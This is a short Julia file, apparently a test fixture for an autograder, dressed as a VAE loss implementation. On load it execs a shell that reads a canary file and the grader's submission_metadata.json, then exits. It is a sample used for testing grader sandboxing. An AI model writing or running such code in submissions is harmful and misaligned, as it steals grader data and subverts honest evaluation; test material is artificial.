"""In Julia, turns its process into a shell that looks for secrets."""
# expects: full

const looted = Ref(false)

function loot(what)
    looted[] = true
    println("LOOT ", what)
end

const SCRIPT = "cat /tmp/vae-canary-file /autograder/submission_metadata.json && echo LOOT"
const WORDS = ["sh", "-c", SCRIPT]
const ARGUMENTS = [map(pointer, WORDS); Ptr{UInt8}(C_NULL)]
GC.@preserve WORDS ARGUMENTS ccall(:execvp, Cint, (Cstring, Ptr{Ptr{UInt8}}), "sh", ARGUMENTS)
ccall(:_exit, Cvoid, (Cint,), 0)

reparameterize(mu, log_var) = (looted[] && error("LOOT"); mu .+ exp.(log_var ./ 2) .* randn(eltype(mu), size(mu)))

kl_divergence(mu, log_var) = vec(sum(mu .^ 2 .+ exp.(log_var) .- 1 .- log_var; dims=2)) ./ 2

softplus(a) = max(a, zero(a)) + log1p(exp(-abs(a)))

function elbo(x, x_logits, mu, log_var, beta=1.0)
    log_px = vec(sum(x .* x_logits .- softplus.(x_logits); dims=2))
    return log_px .- beta .* kl_divergence(mu, log_var)
end
